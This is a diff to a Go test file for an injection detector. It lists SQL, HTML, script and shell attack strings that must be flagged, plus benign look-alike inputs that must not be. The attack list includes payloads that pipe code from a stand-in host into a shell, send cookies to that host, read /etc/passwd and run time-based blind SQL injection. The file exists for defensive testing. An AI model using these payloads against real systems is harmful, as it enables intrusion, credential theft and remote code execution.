@@ -17,7 +17,7 @@ var attacks = map[Kind][]string{
 		`' and substring((select secret from staff limit 1),1,1)='a`, `' || (select pg_sleep(5)) || '`, `1 and sleep(4)`, `1' waitfor delay '0:0:5'--`,
 		`1 order by 12-- `, `' group by staff.id having 1=1--`, `/*!50000union*/ select 1`, `'='`, `'||'a'='a`, `1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)`,
 		`' into outfile '/var/www/x.php' --`, `' exec master..xp_cmdshell 'dir' --`, `select load_file('/etc/passwd')`, `1 and 1=(select count(*) from tabname)`, `or a = a`,
-		`%27%20or%201%3D1--`, `' or 1=1 limit 1 -- -`, `" or ""="`, `1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- `,
+		`%27%20or%201%3D1--`, `' or 1=1 limit 1 -- -`, `" or ""="`, `1 or id between 0 and 9`, `' or id between 0 and 9-- `, `if(1=1,sleep(5),0)`, `id desc,sleep(5)`, `a:" or "1"="1`, `copy staff to '/tmp/x'`, `1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- `,
 	},
 	HTML: {
 		`<script>x()</script>`, `<ScRiPt src=//h.example/a.js>`, `<img src=x onerror=go()>`, `"><svg/onload=go(1)>`, `<a href="java&#115;cript:go(1)">z</a>`, `" onfocus=go(1) autofocus x="`,
@@ -26,7 +26,7 @@ var attacks = map[Kind][]string{
 	},
 	Script: {
 		`javascript:fetch('//h.example/'+document.cookie)`, `JaVa	ScRiPt:alert(1)`, `alert(document.domain)`, `(confirm)(4)`, "prompt`4`", `'-alert(4)-'`, `";eval(name)//`, `');setTimeout('x',1)//`,
-		`window['ale'+'rt'](4)`, `[].constructor.constructor('x')()`, `top["al"+"ert"](1)`, `location='//h.example'`, `${alert(4)}`, `x.innerHTML=y`, `import('//h.example/a.js')`,
+		`window['ale'+'rt'](4)`, `[].constructor.constructor('x')()`, `top["al"+"ert"](1)`, `location='//h.example'`, `${alert(4)}`, `x.innerHTML=y`, `import('//h.example/a.js')`, `';return true;//`,
 	},
 	Shell: {
 		`; cat /etc/passwd`, `| whoami`, `a && curl http://h.example/x | sh`, "`id`", `$(id)`, `;c'a't /et"c"/passwd`, `x|/bin/ls -al`, `() { :; }; /bin/bash -c id`, `;getent$IFS$9hosts`, `& ping -c 3 127.0.0.1 &`,
@@ -103,6 +103,7 @@ var honest = []string{
 	"../images/logo.png", "wait... what?", "and/or", "see /usr/share/doc", "file: report.pdf", "http://example.com/a?b=c&d=e#f", "C:\\Users\\ann\\notes.txt", "24/7", "<3", "x <- y", "h1<h2", "<b>bold</b> and <i>italic</i>", `<a href="https://example.com/x">link</a>`, "<p>Hi & bye</p>", `<img src="/a.png" alt="on=off">`,
 	"Location: Paris, near the station", "line one\nline two\nQuit smoking", "Subject: hello\nDear Ann,\nsee you", "(a) first (b) second", "f(x)=(x+1)(x-1)", "smile :) or (: smile", "price >= 10 && price <= 20", "SGVsbG8gd29ybGQsIGhvdyBhcmUgeW91", "abcdefghijklmnop", "d41d8cd98f00b204e9800998ecf8427e",
 	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36", "ann+list@example.org", "L'amour d'été à l'Église", "#hashtag #2", "-- signed, Ann", "why not? -- yes!", "key: value", "{\"a\": 1, \"b\": [true, null]}", "[link](https://example.com)", "it's 5 o'clock; let's go", "12, Rue de l'Église (2nd floor)", "sleep well", "kill -9? no", "only = (a)", "Prototype (v2)",
+	`5'8" or 5'9"`, `12" or 14" wheels`, `12" and 14"`, `5'-10"`, `title:"a b" AND year>2000`, `status:"open" or label:"good first"`, "=SUM(A1:A10)", `=IF(A1>5,"yes","no")`, "copy paper to 'tray 2'", `She said "select" and then 'union' at last`,
 }
 
 func TestHonest(t *testing.T) {
